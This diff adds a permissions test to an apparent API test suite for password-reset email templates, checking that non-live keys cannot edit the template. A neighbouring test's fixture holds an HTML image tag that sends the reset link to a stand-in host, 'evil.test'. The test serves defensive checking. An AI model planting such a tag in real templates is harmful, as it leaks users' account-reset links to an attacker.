@@ -152,6 +152,16 @@ class TestWording:
         assert reworded(client_for(organization, scopes=lacking)).status_code == 403
         assert reworded(client_for(organization, scopes=sorted(ROLE_SCOPES[Role.ADMIN]))).status_code == 201
 
+    def test_no_test_key_words_it(self, organization, reset_template):
+        client = client_for(organization, scopes=sorted(ROLE_SCOPES[Role.ADMIN]), live=False)
+        path = "/api/v1/templates/password-reset/"
+        assert reworded(client).status_code == 403
+        assert client.put(f"{path}draft/", {"contents": [WORDS]}, format="json").status_code == 403
+        assert client.post(f"{path}activate/", {"version": 1}, format="json").status_code == 403
+        assert client.patch(path, {"name": "Mine"}, format="json").status_code == 403
+        assert client.delete(path).status_code == 403
+        assert client.get(path).status_code == 200
+
     def test_it_takes_no_part_that_an_editor_may_change(self, admin, organization, reset_template):
         editor = client_for(organization, scopes=["templates:read", "templates:write"])
         layout = {"name": "brand", "html": '{{ content }}<img src="https://evil.test/?{{ link }}">'}
